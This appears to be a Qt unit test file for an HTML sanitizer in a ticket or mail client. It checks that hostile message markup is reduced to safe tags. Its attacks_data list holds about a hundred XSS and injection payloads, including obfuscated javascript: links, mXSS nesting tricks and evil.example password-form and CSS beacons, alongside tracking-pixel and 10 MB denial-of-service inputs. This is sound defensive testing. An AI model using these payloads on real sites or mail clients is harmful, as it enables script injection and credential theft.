// SPDX-FileCopyrightText: 2026 DispatchDesk developers
// SPDX-License-Identifier: GPL-3.0-or-later
#include "models/safehtml.h"

#include <QDir>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRegularExpression>
#include <QTest>

using namespace dd::models;

/// Whatever a message says, what comes out is a short list of harmless words.
class tst_safehtml : public QObject {
    Q_OBJECT

private:
    static SafeHtml clean(const QByteArray &html, SenderColours colours = SenderColours::Keep)
    {
        return safeHtml(html, "text/html; charset=\"utf-8\"", colours);
    }

    static QString htmlOf(const QByteArray &html) { return clean(html).html; }

    /// The grammar of our output, checked tag by tag: what is not in it is a hole.
    static QString complaint(const QString &html)
    {
        static const QStringList elements
            = QStringLiteral("a b i u s sub sup small big tt span font p div center blockquote pre h1 h2 h3 "
                             "h4 h5 h6 ul ol dl li dt "
                             "dd table thead tbody tfoot tr td th br hr img")
                  .split(u' ');
        static const QStringList attributes
            = QStringLiteral("href src width height style align dir color size type start border cellpadding "
                             "cellspacing bgcolor "
                             "valign colspan rowspan")
                  .split(u' ');
        static const QRegularExpression tag(QStringLiteral("^<(/?)([a-z0-9]+)((?: [a-z]+=\"[^\"<>]*\")*)>"));
        static const QRegularExpression pair(QStringLiteral(" ([a-z]+)=\"([^\"]*)\""));
        static const QRegularExpression address(
            QStringLiteral("^(https?://[!-~]+|mailto:[!-~]+|tel:[0-9+().-]+|picture:\\d+)$"));
        QStringList open;
        for (qsizetype at = html.indexOf(u'<'); at >= 0; at = html.indexOf(u'<', at + 1)) {
            const QRegularExpressionMatch match = tag.match(html.mid(at, 9000));
            if (!match.hasMatch())
                return QStringLiteral("no tag: ") + html.mid(at, 80);
            const QString name = match.captured(2);
            if (!elements.contains(name))
                return QStringLiteral("element ") + name;
            for (auto it = pair.globalMatch(match.captured(3)); it.hasNext();) {
                const QRegularExpressionMatch one = it.next();
                if (!attributes.contains(one.captured(1)))
                    return QStringLiteral("attribute ") + one.captured(1);
                const bool isAddress
                    = one.captured(1) == QLatin1String("href") || one.captured(1) == QLatin1String("src");
                if (isAddress && !address.match(one.captured(2)).hasMatch())
                    return QStringLiteral("address ") + one.captured(2);
                if (!isAddress && one.captured(2).contains(QLatin1String("url"), Qt::CaseInsensitive))
                    return QStringLiteral("style ") + one.captured(2);
            }
            if (name == QLatin1String("br") || name == QLatin1String("hr") || name == QLatin1String("img"))
                continue;
            if (match.captured(1).isEmpty())
                open << name;
            else if (open.isEmpty() || open.takeLast() != name)
                return QStringLiteral("nesting at ") + html.mid(at, 80);
        }
        return open.isEmpty() ? QString() : QStringLiteral("left open: ") + open.join(u' ');
    }

private Q_SLOTS:
    void attacks_data()
    {
        QTest::addColumn<QByteArray>("html");
        const QList<QByteArray> attacks{
            "<script>alert(1)</script>",
            "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script>a</script <b>x",
            "<script/x>alert(1)</script>",
            "<<script>alert(1)//<</script>",
            "<img src=x onerror=alert(1)>",
            "<img src='x'onerror='alert(1)'>",
            "<img src=\"x\"/onerror=alert(1)//>",
            "<img \"\"\"><script>alert(1)</script>\">",
            "<img src=`x` onerror=alert(1)>",
            "<img src=javascript:alert(1)>",
            "<img src=file:///etc/passwd>",
            "<img src=/etc/passwd>",
            "<img src=:/icons/x.png>",
            "<img src=qrc:/icons/x.png>",
            "<img src=\\\\host\\share\\x.png>",
            "<img src='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='>",
            "<img src='data:text/html,<script>alert(1)</script>'>",
            "<img src='picture:0'>",
            "<img srcset='http://evil.example/x.png 2x'>",
            "<a href=javascript:alert(1)>x</a>",
            "<a href='JaVaScRiPt:alert(1)'>x</a>",
            "<a href=' javascript:alert(1)'>x</a>",
            "<a href='java\nscript:alert(1)'>x</a>",
            "<a href='java&#x0a;script:alert(1)'>x</a>",
            "<a href='java&Tab;script&colon;alert(1)'>x</a>",
            "<a href='&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)'>x</a>",
            "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
            "<a href='\x01javascript:alert(1)'>x</a>",
            "<a href='vbscript:msgbox(1)'>x</a>",
            "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
            "<a href='file:///etc/passwd'>x</a>",
            "<a href='\\\\host\\share'>x</a>",
            "<a href='smb://host/share'>x</a>",
            "<a href='ms-word:ofe|u|http://evil.example/x.docx'>x</a>",
            "<a href='https:evil'>x</a>",
            "<a href='http://'>x</a>",
            "<a href='//'>x</a>",
            "<a href=\"https://x.example/&quot;onclick=alert(1)\">x</a>",
            "<a href=\"https://x.example/\" href=\"javascript:alert(1)\">x</a>",
            "<a href=\"javascript:alert(1)\" href=\"https://x.example/\">x</a>",
            "<a href=https://x.example/<b>x</a>",
            "<a href='mailto:a@b.example?attach=/etc/passwd&subject=x'>x</a>",
            "<a href='tel:*#06#'>x</a>",
            "<svg onload=alert(1)><p>x</svg>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<iframe src=javascript:alert(1)></iframe>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<object data=evil.swf><embed src=evil.swf></object>",
            "<form action=http://evil.example><input name=p type=password><button>send</button></form>",
            "<meta http-equiv=refresh content='0;url=http://evil.example'>",
            "<base href='http://evil.example/'><a href=x>x</a><img src=y>",
            "<link rel=stylesheet href=http://evil.example/x.css>",
            "<style>@import 'http://evil.example/x.css';</style>",
            "<style>body{background:url(http://evil.example/x)}</style>",
            "<body background=http://evil.example/x.png onload=alert(1)>x",
            "<table background=http://evil.example/x.png><tr><td background=x>y</td></tr></table>",
            "<p style='background:url(http://evil.example/x)'>x</p>",
            "<p style='background-image:url(http://evil.example/x)'>x</p>",
            "<p style='color:red;background:u\\72l(http://evil.example/x)'>x</p>",
            "<p style='color:expression(alert(1))'>x</p>",
            "<p style='color:r/**/ed;-moz-binding:url(x)'>x</p>",
            "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</p>",
            "<p style=\"color:red&quot;><script>alert(1)</script>\">x</p>",
            "<p style='list-style-image:url(x);qt-block-indent:999999;-qt-table-type:root'>x</p>",
            "<p style='margin-left:-9000px;margin:99999px;font-size:9999px;text-indent:-9999px'>x</p>",
            "<font size=99999 color='red\" onclick=\"x'>x</font>",
            "<td colspan=99999999999>x",
            "<table><tr><td colspan=2000000000 rowspan=2000000000>x</table>",
            "<ol start=99999999999999999999><li>x</ol>",
            "<!--><script>alert(1)</script>-->",
            "<!-- --!><script>alert(1)</script>",
            "<!--[if mso]><script>alert(1)</script><![endif]-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml version='1.0'?><script>alert(1)</script>",
            "<title><script>alert(1)</script></title>",
            "<textarea><script>alert(1)</script></textarea>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">x",
            "<xmp><script>alert(1)</script></xmp>",
            "<plaintext><script>alert(1)</script>",
            "<template><script>alert(1)</script></template>",
            "<select><option><script>alert(1)</script>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "&amp;lt;script&amp;gt;",
            "<\0script>alert(1)</script>",
            "<p\0onclick=alert(1)>x",
            "<a b='",
            "<",
            "</",
            "<!",
            "</ script>",
            "<b",
            "<b ",
            "<b =",
            "<b =\"",
            "<b/>x</b/>",
            "<p align=\"left\" style>x",
            "&",
            "&#",
            "&#x",
            "&#xD800;&#xFFFF;&#x110000;&#99999999999;&#0;",
            "&#xFDD0;\xef\xb7\x90\xef\xbf\xbc",
        };
        for (qsizetype i = 0; i < attacks.size(); ++i)
            QTest::addRow("%02d %s", int(i), attacks.at(i).left(40).constData()) << attacks.at(i);
    }

    void attacks()
    {
        QFETCH(QByteArray, html);
        for (const QByteArray &around : {QByteArray("%1"), QByteArray("<table><tr><td>%1</td></tr></table>"),
                 QByteArray("<table>%1</table>"), QByteArray("<p><b>a%1b</b></p>")}) {
            QByteArray whole = around;
            whole.replace("%1", html);
            const SafeHtml made = clean(whole);
            QVERIFY2(complaint(made.html).isEmpty(), qPrintable(complaint(made.html) + u'\n' + made.html));
            QVERIFY2(!made.html.contains(QLatin1String("alert"), Qt::CaseInsensitive)
                    || made.html.contains(QLatin1String("&lt;"))
                    || !made.html.contains(QLatin1String("script")),
                qPrintable(made.html));
            for (const QChar c : made.html)
                QVERIFY(c >= u' ' || c == u'\n' || c == u'\t');
            for (const Picture &picture : made.pictures)
                QVERIFY(picture.source != Picture::Source::Remote || !picture.url.host().isEmpty());
        }
    }

    void readsAs_data()
    {
        QTest::addColumn<QByteArray>("html");
        QTest::addColumn<QString>("expected");
        const auto row = [](const char *name, const QByteArray &html, const char *expected) {
            QTest::newRow(name) << html << QString::fromUtf8(expected);
        };
        row("plain", "Hello, <b>world</b>", "Hello, <b>world</b>");
        row("names of old", "<STRONG>a</STRONG><EM>b</EM><STRIKE>c</STRIKE>", "<b>a</b><i>b</i><s>c</s>");
        row("unknown elements leave their text", "<o:p>a</o:p><blink>b</blink>", "ab");
        row("crossed", "<b><i>x</b>y</i>z", "<b><i>x</i></b>yz");
        row("paragraphs end one another", "<p>a<p>b<div>c</div>", "<p>a</p><p>b</p><div>c</div>");
        row("items end one another", "<ul><li>a<li>b<ul><li>c</ul><li>d</ul>",
            "<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>");
        row("terms", "<dl><dt>a<dd>b<dt>c</dl>", "<dl><dt>a</dt><dd>b</dd><dt>c</dt></dl>");
        row("loose cells", "<table><td>a<td>b<tr><td>c</table>",
            "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>");
        row("sections", "<table><thead><tr><th>a<tbody><tr><td>b</table>",
            "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>");
        row("caption", "<table><caption>t</caption><tr><td>a</table>",
            "<table><tr><td>t</td></tr><tr><td>a</td></tr></table>");
        row("text between cells", "<table>x<tr><td>a</table>",
            "<table><tr><td>x</td></tr><tr><td>a</td></tr></table>");
        row("cells keep what is open outside", "<b><table><tr><td>a</b>b</td></tr></table></b>c",
            "<b><table><tr><td>ab</td></tr></table></b>c");
        row("a cell without a table", "<td>a</td><td>b</td>", "ab");
        row("links in links", "<a href='https://a.example/'>a<a href='https://b.example/'>b</a>",
            "<a href=\"https://a.example/\">a</a><a href=\"https://b.example/\">b</a>");
        row("a link without an address", "<a name=top>x</a>", "x");
        row("no user names", "<a href='https://bank.example@evil.example/'>x</a>",
            "<a href=\"https://evil.example/\">x</a>");
        row("the host is spelled out",
            "<a href='http://\xd0\xbf\xd1\x80\xd0\xb8\xd0\xbc\xd0\xb5\xd1\x80.example/'>x</a>",
            "<a href=\"http://xn--e1afmkfd.example/\">x</a>");
        row("without a scheme", "<a href='//a.example/b'>x</a>", "<a href=\"https://a.example/b\">x</a>");
        row("ampersands", "<a href='https://a.example/?x=1&amp;y=2&z=3'>x</a>",
            "<a href=\"https://a.example/?x=1&amp;y=2&amp;z=3\">x</a>");
        row("mail", "<a href='mailto:a@b.example?subject=Hi%20there&amp;attach=/x'>x</a>",
            "<a href=\"mailto:a@b.example?subject=Hi%20there\">x</a>");
        row("phone", "<a href='tel:+7 (495) 123-45-67'>x</a>", "<a href=\"tel:+7(495)123-45-67\">x</a>");
        row("style", "<p style='COLOR: Red; font-size:12pt; position:absolute'>x</p>",
            "<p style=\"color:red;font-size:16px;\">x</p>");
        row("sizes stay readable",
            "<span style='font-size:1px'>a</span><span style='font-size:90px'>b</span>",
            "<span style=\"font-size:8px;\">a</span><span style=\"font-size:32px;\">b</span>");
        row("margins", "<p style='margin:0cm 1px 2cm'>x</p>",
            "<p style=\"margin-top:0px;margin-right:1px;margin-bottom:48px;margin-left:1px;\">x</p>");
        row("office paragraphs stand close", "<p class=MsoNormal>x</p>",
            "<p style=\"margin-top:0px;margin-bottom:0px;\">x</p>");
        row("font", "<font color=ff0000 size=+2 face=Wingdings>x</font>",
            "<font color=\"#ff0000\" size=\"+2\">x</font>");
        row("hidden", "a<div style='display:none'>b<p>c</div>d<span hidden>e</span>f", "adf");
        row("hidden by Outlook", "<span style='mso-hide:all'>x</span>y", "y");
        row("shown after all", "<p style='display:none;display:block'>x</p>", "<p>x</p>");
        row("characters", "&lt;b&gt; &amp;amp; &eacute;&nbsp;&bogus; &#1055;&#x44f;",
            "&lt;b&gt; &amp;amp; &eacute;\u00a0&bogus; \u041f\u044f");
        row("Windows characters", "&#150;&#147;x&#148;", "\u2013\u201cx\u201d");
        row("not a tag", "1 < 2 && 3 > 2", "1 &lt; 2 &amp;&amp; 3 &gt; 2");
        row("comments", "a<!-- <b> -->b<!---->c<!doctype html>d", "abcd");
        row("line breaks", "a<br>b<br/>c</br>d", "a<br>b<br>c<br>d");
        row("never ending", "a<p title='b>c", "a");
        row("line separators",
            "a\xe2\x80\xa8"
            "b",
            "a b");
    }

    void readsAs()
    {
        QFETCH(QByteArray, html);
        QFETCH(QString, expected);
        const SafeHtml made = clean(html);
        QCOMPARE(made.html, expected);
        QCOMPARE(complaint(made.html), QString());
        QVERIFY(!made.isCut);
    }

    void coloursMayBeDropped()
    {
        const QByteArray html = "<table bgcolor=#fff><tr bgcolor=white><td><p "
                                "style='color:#000;background:#fff;font-weight:700'>x"
                                "<font color=black size=2>y</font></table>";
        const QString made = clean(html, SenderColours::Drop).html;
        QCOMPARE(made,
            QStringLiteral(
                "<table><tr><td><p style=\"font-weight:bold;\">x<font size=\"2\">y</font></p></td></tr>"
                "</table>"));
    }

    void picturesAreNumbered()
    {
        const SafeHtml made
            = clean("<img src='https://a.example/1.png?x=1&amp;y=2' width=30 height=20 alt=' Logo '>"
                    "<img src='cid:part1%40mail' width='100%'>"
                    "<img src='/otrs/json.pl?Action=tickets;Subaction=getAttachment;ArticleID=1062;FileID=3'>"
                    "<img src='data:image/png;base64,iVBORw0KGgo='>"
                    "<img src='relative.png'><img>");
        QCOMPARE(made.html,
            QStringLiteral("<img src=\"picture:0\" width=\"30\" height=\"20\"><img src=\"picture:1\">"
                           "<img src=\"picture:2\"><img src=\"picture:3\">"));
        QCOMPARE(made.pictures.size(), 4);
        QCOMPARE(made.pictures.at(0).source, Picture::Source::Remote);
        QCOMPARE(made.pictures.at(0).url, QUrl(QStringLiteral("https://a.example/1.png?x=1&y=2")));
        QCOMPARE(made.pictures.at(0).text, QStringLiteral("Logo"));
        QCOMPARE(made.pictures.at(0).size, QSize(30, 20));
        QCOMPARE(made.pictures.at(1).source, Picture::Source::ContentId);
        QCOMPARE(made.pictures.at(1).contentId, QStringLiteral("part1@mail"));
        QCOMPARE(made.pictures.at(2).source, Picture::Source::Part);
        QCOMPARE(made.pictures.at(2).articleId, 1062);
        QCOMPARE(made.pictures.at(2).fileId, 3);
        QCOMPARE(made.pictures.at(3).source, Picture::Source::Inside);
        QCOMPARE(made.pictures.at(3).bytes, QByteArray("\x89PNG\r\n\x1a\n"));
        QVERIFY(made.hasRemotePictures());
    }

    void spyingPicturesAreNotEvenOffered()
    {
        const SafeHtml made = clean("<img src=https://spy.example/?me width=1 height=1>"
                                    "<img src=//spy.example/ width=0 height=1><div style='display:none'><img "
                                    "src=https://spy.example/3></div>");
        QVERIFY(made.pictures.isEmpty());
        QVERIFY(!made.hasRemotePictures());
        QVERIFY(!made.html.contains(QLatin1String("img")));
    }

    void hugePicturesAreAskedForInBounds()
    {
        const SafeHtml made = clean("<img src=https://a.example/ width=99999999 height=2147483648>");
        QCOMPARE(made.pictures.first().size, QSize(1600, 1600));
    }

    void bannerOfTheServerIsTakenOut()
    {
        QFile file(QStringLiteral(
            DD_TEST_DATA "/otrs/tickets.getAttachment.html-customer-article-with-script.json"));
        QVERIFY(file.open(QIODevice::ReadOnly));
        const QJsonObject answer
            = QJsonDocument::fromJson(file.readAll()).object().value(QLatin1String("response")).toObject();
        const QByteArray body
            = QByteArray::fromBase64(answer.value(QLatin1String("body_base64")).toString().toLatin1());
        const SafeHtml made = clean(body);
        QVERIFY(made.picturesRemoved);
        QCOMPARE(complaint(made.html), QString());
        QVERIFY(!made.html.contains(QStringLiteral("конфиденциальности")));
        QVERIFY(!made.html.contains(QStringLiteral("OTRSAgentInterface")));
        QVERIFY(made.html.contains(QStringLiteral("<p>Привет, <b>коллеги</b>!</p>js link <a href=\"https://"
                                                  "example.invalid/page?x=1&amp;y=2\">normal link</a>")));
    }

    void charsets_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<QByteArray>("type");
        QTest::addColumn<QString>("expected");
        const QString word = QStringLiteral("Привет");
        QTest::newRow("declared") << word.toUtf8() << QByteArray("text/html; charset=\"utf-8\"") << word;
        QTest::newRow("header wins over the text") << QByteArray("<meta charset=iso-8859-1>") + word.toUtf8()
                                                   << QByteArray("text/html; charset=utf-8") << word;
        QTest::newRow("nothing declared") << word.toUtf8() << QByteArray("text/html") << word;
        QTest::newRow("named inside") << QByteArray("<meta charset=\"iso-8859-1\">caf\xe9")
                                      << QByteArray("text/html") << QStringLiteral("caf\u00e9");
        QTest::newRow("latin 1") << QByteArray("caf\xe9") << QByteArray("text/html;charset=ISO-8859-1")
                                 << QStringLiteral("caf\u00e9");
        QTest::newRow("invalid") << QByteArray("a\xff\xfe"
                                               "b\xd0")
                                 << QByteArray("text/html; charset=utf-8")
                                 << QStringLiteral("a\ufffd\ufffdb");
        QTest::newRow("unknown") << word.toUtf8() << QByteArray("text/html; charset=x-nonsense") << word;
        QTest::newRow("byte order mark")
            << QByteArray("\xef\xbb\xbf") + word.toUtf8() << QByteArray("text/html") << word;
        QTest::newRow("empty") << QByteArray() << QByteArray() << QString();
    }

    void charsets()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(QByteArray, type);
        QFETCH(QString, expected);
        QCOMPARE(safeHtml(bytes, type).html, expected);
    }

    void bounds_data()
    {
        QTest::addColumn<QByteArray>("html");
        QTest::addColumn<bool>("cut");
        const auto times = [](qsizetype count, const QByteArray &text) { return text.repeated(count); };
        QTest::newRow("10 MB of words") << times(2'000'000, "word ") << true;
        QTest::newRow("10 MB without a blank") << times(10'000'000, "x") << true;
        QTest::newRow("10 MB of <") << times(10'000'000, "<") << true;
        QTest::newRow("10 MB of comments") << times(2'500'000, "<!--") << false;
        QTest::newRow("10 MB of open quotes") << times(1'500'000, "<a b=\"'") << false;
        QTest::newRow("10 MB of ends") << "<b>" + times(150, "<i>") + times(2'500'000, "</b>") << true;
        QTest::newRow("10 MB of script ends") << "<script>" + times(1'200'000, "</script") << false;
        QTest::newRow("10 MB of references") << times(1'600'000, "&#x41;") << true;
        QTest::newRow("10 MB hidden") << "<div hidden>" + times(1'200'000, "<b>x</b>") << true;
        QTest::newRow("10 MB of one style") << "<p style='" + times(1'000'000, "color:red;") + "'>x" << false;
        QTest::newRow("10 MB of attributes") << "<p " + times(2'500'000, "a=b ") + ">x" << false;
        QTest::newRow("tables in tables") << times(10'000, "<table><tr><td>") + "deep" << false;
        QTest::newRow("boxes in boxes") << times(10'000, "<div>") + "deep" + times(10'000, "</div>") << false;
        QTest::newRow("lists in lists") << times(10'000, "<ul><li>") + "deep" << false;
        QTest::newRow("quotes in quotes") << times(10'000, "<blockquote>") + "deep" << false;
        QTest::newRow("a table of too many cells")
            << "<table>" + times(10'000, "<tr><td>x</td></tr>") + "<tr>" + times(10'000, "<td>y</td>")
            << true;
        QTest::newRow("spans that multiply")
            << "<table>" + times(500, "<tr>" + times(40, "<td rowspan=100 colspan=40>x")) << true;
        QTest::newRow("200,000 lines") << times(200'000, "line<br>") << true;
        QTest::newRow("100,000 paragraphs") << times(100'000, "<p>x") << true;
        QTest::newRow("1,000 pictures") << times(1'000, "<img src=https://a.example/>") << false;
    }

    void bounds()
    {
        QFETCH(QByteArray, html);
        QFETCH(bool, cut);
        const SafeHtml made = clean(html);
        QCOMPARE(made.isCut, cut);
        QVERIFY(made.html.size() < 3'000'000);
        QVERIFY(made.pictures.size() <= 200);
        QCOMPARE(complaint(made.html), QString());
        static const QRegularExpression word(QStringLiteral("[^ <>;\\n\u200b]{1000}"));
        QVERIFY(!word.match(made.html).hasMatch());
    }

    void deepTextIsNotLost()
    {
        const QString made = htmlOf(QByteArray("<table><tr><td>a</td><td>").repeated(50) + "deep"
            + QByteArray("</td></tr></table>").repeated(50) + "<p>after");
        QVERIFY(made.contains(QLatin1String("deep")));
        QVERIFY(made.endsWith(QLatin1String("<p>after</p>")));
        QCOMPARE(made.count(u'a' + QString()) >= 50, true);
    }

    /// Every beginning of a real message is a message: nothing hangs, nothing leaks.
    void everyBeginning()
    {
        const QByteArray message
            = "<!DOCTYPE html><html><head><title>x</title><style>p{}</style></head><body bgcolor=#fff>"
              "<!-- c --><p class=MsoNormal style='color:red'>\xd0\xaf &amp; <a "
              "href=\"https://a.example/?q='1'\">l</a>"
              "<img src=cid:1><table border=1><tr><td "
              "colspan=2>c</td></tr></table><script>s</script></body></html>";
        for (qsizetype i = 0; i <= message.size(); ++i) {
            const QString made = htmlOf(message.left(i));
            QVERIFY2(complaint(made).isEmpty(), qPrintable(made));
            QVERIFY2(complaint(htmlOf(message.mid(i))).isEmpty(), qPrintable(made));
        }
    }
};

QTEST_APPLESS_MAIN(tst_safehtml)
#include "tst_safehtml.moc"
